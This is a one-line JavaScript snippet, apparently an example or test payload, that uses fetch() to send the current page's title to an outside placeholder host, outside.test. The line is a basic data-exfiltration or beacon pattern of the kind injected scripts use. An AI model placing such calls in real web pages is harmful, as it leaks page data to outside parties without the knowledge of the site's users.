fetch("https://outside.test/?" + document.title)
